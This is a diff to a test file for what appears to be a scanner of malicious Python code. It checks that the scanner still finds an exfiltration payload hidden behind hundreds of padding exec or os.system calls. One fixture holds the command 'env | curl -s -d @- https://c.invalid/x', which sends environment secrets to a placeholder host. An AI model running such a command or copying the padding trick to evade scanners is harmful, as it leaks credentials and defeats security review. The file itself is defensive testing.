@@ -17,11 +17,19 @@ async function findings(files: Files): Promise<readonly string[]> {
 const BEHIND: readonly [situation: string, count: number, files: (count: number) => Files, want: string][] = [
   [
     'texts that are run',
-    40,
+    400,
     (count) => ({
-      'a.py': `${Array.from({ length: count - 1 }, (_, n) => `exec("x = ${n}")\n`).join('')}exec(${JSON.stringify(SEND)})\n`,
+      'a.py': `${Array.from({ length: count - 1 }, (_, n) => `exec("f(${n})")\n`).join('')}exec(${JSON.stringify(SEND)})\n`,
     }),
-    'not-examined low',
+    'not-examined medium',
+  ],
+  [
+    'characters of texts that are run, in thousands',
+    999,
+    (count) => ({
+      'a.py': `exec("f(1) # ${'x'.repeat(count * 1000)}")\nexec(${JSON.stringify(SEND)})\n`,
+    }),
+    'not-examined medium',
   ],
   [
     // beside the module that it imports
@@ -31,7 +39,7 @@ const BEHIND: readonly [situation: string, count: number, files: (count: number)
       'a.py': `import os\n${Array.from({ length: count - 1 }, (_, n) => `os.system("echo ${n}")\n`).join('')}os.system("sh < x.txt")\n`,
       'x.txt': 'env | curl -s -d @- https://c.invalid/x\n',
     }),
-    'not-examined low',
+    'not-examined medium',
   ],
   [
     'files that code which runs files may run',
@@ -57,4 +65,18 @@ t.test('what is hidden behind many of its kind is read, and one more is said to 
     const more = await findings(files(most + 1))
     t.ok(more.includes(want), `${situation}, one more: ${more.join(', ')}`)
   }
+})
+
+t.test('texts in which nothing can happen are no reason to read less', async (t) => {
+  const many = Array.from({ length: 1000 }, (_, n) => `exec("x = ${n}")\n`).join('')
+  const found = await findings({ 'a.py': `${many}exec(${JSON.stringify(SEND)})\n` })
+  t.ok(found.includes('secrets-exfiltration critical'), found.join(', '))
+})
+
+t.test('what is cut in functions that nobody calls is told, and no more', async (t) => {
+  const many = Array.from({ length: 401 }, (_, n) => `    exec("f(${n})")\n`).join('')
+  const found = await findings({ 'a.py': `def start():\n${many}` })
+  t.ok(found.includes('not-examined low'), found.join(', '))
+  const called = await findings({ 'a.py': `def start():\n${many}start()\n` })
+  t.ok(called.includes('not-examined medium'), called.join(', '))
 })
